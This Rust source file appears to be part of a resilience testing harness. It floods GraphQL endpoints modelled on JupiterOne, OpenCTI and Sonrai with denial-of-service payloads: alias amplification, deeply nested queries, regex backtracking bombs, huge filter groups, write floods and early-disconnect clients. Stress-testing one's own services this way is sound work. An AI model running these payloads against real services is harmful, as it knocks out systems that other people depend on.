// SPDX-License-Identifier: Apache-2.0
//! Questions by somebody who may ask, of their own organization, that cost as much as they can.

use std::fmt::Write as _;
use std::sync::Arc;

use bytes::Bytes;
use serde_json::{Value, json};

use crate::field::{Ask, Field};

const JUPITERONE: &str = "/jupiterone/graphql";
const DOCUMENT: &str = "query($query: String!, $cursor: String) {
  queryV1(query: $query, cursor: $cursor, flags: {variableResultSize: true}) {
    type data cursor } }";
const DEFERRED: &str = "query($query: String!) {
  queryV1(query: $query, deferredResponse: FORCE) { type data url } }";

/// The body of a J1QL query.
pub(super) fn body(j1ql: &str) -> String {
    json!({"query": DOCUMENT, "variables": {"query": j1ql}}).to_string()
}

/// The same questions again and again, `count` at a time, by the viewer's key.
async fn ask_all(field: &Arc<Field>, count: usize, questions: &[String]) {
    let bodies: Vec<Bytes> = questions.iter().map(|text| body(text).into()).collect();
    send_all(field, JUPITERONE, count, &bodies).await;
}

async fn send_all(field: &Arc<Field>, path: &str, count: usize, bodies: &[Bytes]) {
    let token = field.arsenal.viewer.narrow.clone();
    let ask = |number: usize| {
        let body = bodies.get(number % bodies.len().max(1)).cloned();
        Ask::post(path, body.unwrap_or_default()).bearer(&token)
    };
    field.flood(count, ask).await;
}

/// A small document that asks for everything near everything: seventy times all neighbors.
pub(crate) async fn neighbors(field: Arc<Field>) -> anyhow::Result<()> {
    let token = field.arsenal.viewer.token.clone();
    let found = {
        let client = field.client(&token);
        let query = body("FIND siege_hub LIMIT 1");
        let query: Value = serde_json::from_str(&query)?;
        tokio::task::spawn_blocking(move || client.post(JUPITERONE, &query)?.json()).await??
    };
    let id = found
        .pointer("/data/queryV1/data/0/id")
        .and_then(Value::as_str);
    let id = id.unwrap_or_default().to_owned();
    anyhow::ensure!(
        !id.is_empty(),
        "the attack has no entity to begin with: {found}"
    );
    let mut document = String::from("{");
    for number in 0..70 {
        // Writing to a text cannot fail.
        let _ = write!(
            document,
            " a{number}:vertex(id:\"{id}\"){{neighbors(depth:5){{vertices{{properties}}edges{{properties}}}}}}"
        );
    }
    document.push('}');
    let body = Bytes::from(json!({ "query": document }).to_string());
    let ask = |_| Ask::post(JUPITERONE, body.clone()).bearer(&token);
    field.flood(4, ask).await;
    Ok(())
}

/// Tables over paths of four steps, eight side by side.
pub(crate) async fn cross_products(field: Arc<Field>) -> anyhow::Result<()> {
    let hop = "THAT CONNECTS siege_hub";
    let questions = [
        format!("FIND siege_hub AS a {hop} AS b {hop} AS c {hop} AS d RETURN a.*, b.*, c.*, d.*"),
        format!("FIND siege_hub AS a {hop} AS b {hop} AS c RETURN a.displayName, b.displayName, c.displayName"),
        format!("FIND siege_hub AS a {hop} AS b {hop} AS c RETURN a._key, count(b), count(c)"),
        "FIND siege_note AS a THAT RELATES TO siege_hub AS h THAT RELATES TO siege_note AS b RETURN a.text, b.text".to_owned(),
    ];
    ask_all(&field, 8, &questions).await;
    Ok(())
}

/// What must be held whole before the first row can leave: order, uniqueness, groups.
pub(crate) async fn sorted(field: Arc<Field>) -> anyhow::Result<()> {
    let hop = "THAT CONNECTS siege_hub";
    let questions = [
        format!("FIND siege_hub AS a {hop} AS b {hop} AS c {hop} AS d RETURN a._key, b._key, c._key, d._key ORDER BY d._key"),
        format!("FIND UNIQUE siege_hub AS a {hop} AS b {hop} AS c {hop} AS d RETURN a._key, b._key, c._key, d._key"),
        "FIND siege_note AS a THAT RELATES TO siege_hub THAT RELATES TO siege_note AS b RETURN a.text, b.text ORDER BY b.text".to_owned(),
        "FIND siege_note AS a THAT RELATES TO siege_hub THAT RELATES TO siege_note AS b RETURN a.text, b.text, count(b)".to_owned(),
    ];
    ask_all(&field, 8, &questions).await;
    Ok(())
}

/// Trees of paths.
pub(crate) async fn trees(field: Arc<Field>) -> anyhow::Result<()> {
    let questions = [
        "FIND siege_hub THAT RELATES TO siege_hub THAT RELATES TO siege_hub THAT RELATES TO siege_note RETURN TREE".to_owned(),
        "FIND * THAT RELATES TO * THAT RELATES TO * RETURN TREE".to_owned(),
    ];
    ask_all(&field, 8, &questions).await;
    Ok(())
}

/// The same by clients who leave as soon as they have asked.
pub(crate) async fn leavers(field: Arc<Field>) -> anyhow::Result<()> {
    let hop = "THAT CONNECTS siege_hub";
    let text = format!(
        "FIND siege_hub AS a {hop} AS b {hop} AS c {hop} AS d RETURN a._key, count(d) ORDER BY a._key"
    );
    let ask = Ask::post(JUPITERONE, body(&text)).bearer(&field.arsenal.viewer.narrow);
    let wire = Arc::new(ask.wire());
    field
        .swarm(32, |field, _| {
            let wire = Arc::clone(&wire);
            async move {
                while !field.is_over() {
                    let mut stream = field.connect().await?;
                    tokio::io::AsyncWriteExt::write_all(&mut stream, &wire).await?;
                    tokio::time::sleep(std::time::Duration::from_millis(50)).await;
                    field.note("left");
                }
                Ok(())
            }
        })
        .await;
    Ok(())
}

/// Results for later, more than anybody fetches.
pub(crate) async fn deferred(field: Arc<Field>) -> anyhow::Result<()> {
    let query = "FIND siege_note AS n RETURN n.*";
    let body = json!({"query": DEFERRED, "variables": {"query": query}}).to_string();
    send_all(&field, JUPITERONE, 32, &[body.into()]).await;
    Ok(())
}

/// Many long lists in one request, of every schema.
pub(crate) async fn long_lists(field: Arc<Field>) -> anyhow::Result<()> {
    let aliased = |part: &str| {
        let mut document = String::from("{");
        for number in 0..100 {
            let _ = write!(document, " a{number}:{part}");
        }
        document.push('}');
        Bytes::from(json!({ "query": document }).to_string())
    };
    let lists = [
        (
            "/durward/graphql",
            aliased("entities(first:500){nodes{properties history{nodes{properties}}}}"),
        ),
        (
            "/durward/graphql",
            aliased("query(j1ql:\"FIND siege_note\",limit:2000){data}"),
        ),
        (
            "/jupiterone/graphql",
            aliased("listVerticesV2(size:500){vertices{properties edges{properties}}}"),
        ),
        (
            "/opencti/graphql",
            aliased("stixCoreObjects(first:5000){edges{node{id}}}"),
        ),
        ("/sonrai/graphql", aliased("Users{items{srn}}")),
    ];
    let token = field.arsenal.viewer.token.clone();
    let ask = |number: usize| match lists.get(number % lists.len()) {
        Some((path, body)) => Ask::post(path, body.clone()).bearer(&token),
        None => Ask::post("/", ""),
    };
    field.flood(10, ask).await;
    Ok(())
}

/// Queries that nest, chain and compare as deeply as can be written.
pub(crate) async fn nesting(field: Arc<Field>) -> anyhow::Result<()> {
    let deep = |open: &str, middle: &str, close: &str, depth: usize| {
        format!("{}{middle}{}", open.repeat(depth), close.repeat(depth))
    };
    let questions = [
        format!("FIND User WITH {}", deep("(", "a = 1", ")", 30_000)),
        format!("FIND User WITH {}a = 1", "NOT ".repeat(15_000)),
        format!("FIND User WITH a = 1{}", " AND a = 1".repeat(6_000)),
        format!("FIND User{}", " THAT HAS User".repeat(4_000)),
        format!("FIND User WHERE {}", deep("(", "a.b = 1", ")", 30_000)),
        format!("FIND User AS u RETURN {}", deep("(", "u.a", ")", 30_000)),
        format!("FIND User AS u RETURN u.a{}", " + u.a".repeat(8_000)),
        format!("FIND User AS u RETURN {}u.a", "-".repeat(60_000)),
        format!("FIND User {}", deep("(THAT HAS User ", "", ")?", 3_000)),
        format!(
            "FIND User WITH _id = ({}",
            "FIND User WITH _id = (".repeat(2_500)
        ),
        format!("FIND {}", deep("(", "User", ")", 30_000)),
        format!("FIND User WITH a = ({}1)", "1 OR ".repeat(10_000)),
        format!("FIND User /*{}", "/*".repeat(30_000)),
        format!("FIND User WITH a = '{}", "\\'".repeat(30_000)),
    ];
    ask_all(&field, questions.len(), &questions).await;
    Ok(())
}

/// Regular expressions that are small to write and large to build, or slow to run.
pub(crate) async fn patterns(field: Arc<Field>) -> anyhow::Result<()> {
    let bombs = [
        "(a{1000}){1000}".to_owned(),
        "((a*)*)*b".to_owned(),
        "(x+x+)+y".to_owned(),
        format!("{}a{}", "(".repeat(5_000), ")".repeat(5_000)),
        "(\\\\pL{100}){100}".to_owned(),
        "[[:alpha:]&&[^a]]{5000}".to_owned(),
        ".*".repeat(5_000),
    ];
    let questions = bombs.iter().flat_map(|bomb| {
        [
            format!("FIND siege_note WITH text ~= /{bomb}/"),
            format!("FIND siege_note WITH text ~= '{bomb}'"),
            format!("FIND siege_note WITH text = /{bomb}/"),
        ]
    });
    let questions: Vec<String> = questions.collect();
    ask_all(&field, questions.len(), &questions).await;
    Ok(())
}

/// Filters of the other schemas that nest, as values and as text.
pub(crate) async fn filters(field: Arc<Field>) -> anyhow::Result<()> {
    let group = "{\"mode\":\"and\",\"filters\":[],\"filterGroups\":[";
    let group = format!("{}{}", group.repeat(2_000), "]}".repeat(2_000));
    let wide = json!({"mode": "or", "filterGroups": [], "filters": vec![
        json!({"key": ["name"], "values": vec!["a*b*c*d*"; 100], "operator": "match", "mode": "or"}); 900]});
    let opencti = "query($f:FilterGroup){stixCoreObjects(filters:$f){edges{node{id}}}}";
    let sonrai = "query($w:UsersFilter){Users(where:$w){items{srn}}}";
    let both = "{\"and\":[".repeat(2_000) + &"]}".repeat(2_000);
    let regex =
        json!({"or": vec![json!({"name": {"op": "REGEX", "value": "/(a{1000}){1000}/"}}); 500]});
    let raw = |document: &str, name: &str, value: &str| {
        Bytes::from(format!(
            "{{\"query\":{},\"variables\":{{\"{name}\":{value}}}}}",
            json!(document)
        ))
    };
    let bodies = [
        ("/opencti/graphql", raw(opencti, "f", &group)),
        ("/opencti/graphql", raw(opencti, "f", &wide.to_string())),
        ("/sonrai/graphql", raw(sonrai, "w", &both)),
        ("/sonrai/graphql", raw(sonrai, "w", &regex.to_string())),
    ];
    let token = field.arsenal.viewer.token.clone();
    let ask = |number: usize| match bodies.get(number % bodies.len()) {
        Some((path, body)) => Ask::post(path, body.clone()).bearer(&token),
        None => Ask::post("/", ""),
    };
    field.flood(8, ask).await;
    Ok(())
}

/// Writes of the attackers' own administrator, as many as are taken.
pub(crate) async fn writes(field: Arc<Field>) -> anyhow::Result<()> {
    const WRITE: &str = "mutation($key: String!, $p: JSON) { createEntity(entityKey: $key, \
        entityType: \"siege_flood\", entityClass: [\"Record\"], properties: $p) { vertex { id } } }";
    let token = field.arsenal.own.api_token().to_owned();
    let text = "w".repeat(4_000);
    field
        .swarm(32, |field, number| {
            let (token, text) = (token.clone(), text.clone());
            async move {
                for round in 0.. {
                    let properties = json!({"displayName": text, "other": text});
                    let variables = json!({"key": format!("w:{number}:{round}"), "p": properties});
                    let body = json!({"query": WRITE, "variables": variables});
                    let ask = Ask::post(JUPITERONE, body.to_string()).bearer(&token);
                    let outcome = field.http(&ask).await?;
                    field.note(&outcome);
                }
                Ok(())
            }
        })
        .await;
    Ok(())
}

/// The journal verified and exported whole, again and again.
pub(crate) async fn audits(field: Arc<Field>) -> anyhow::Result<()> {
    let token = field.arsenal.own.api_token().to_owned();
    let paths = [
        "/audit/verify",
        "/audit/export?from=1&limit=1000",
        "/entities?limit=1000",
    ];
    let ask = |number: usize| {
        let path = paths.get(number % paths.len()).copied().unwrap_or("/");
        Ask::post(path, "").method("GET").bearer(&token)
    };
    field.flood(24, ask).await;
    Ok(())
}
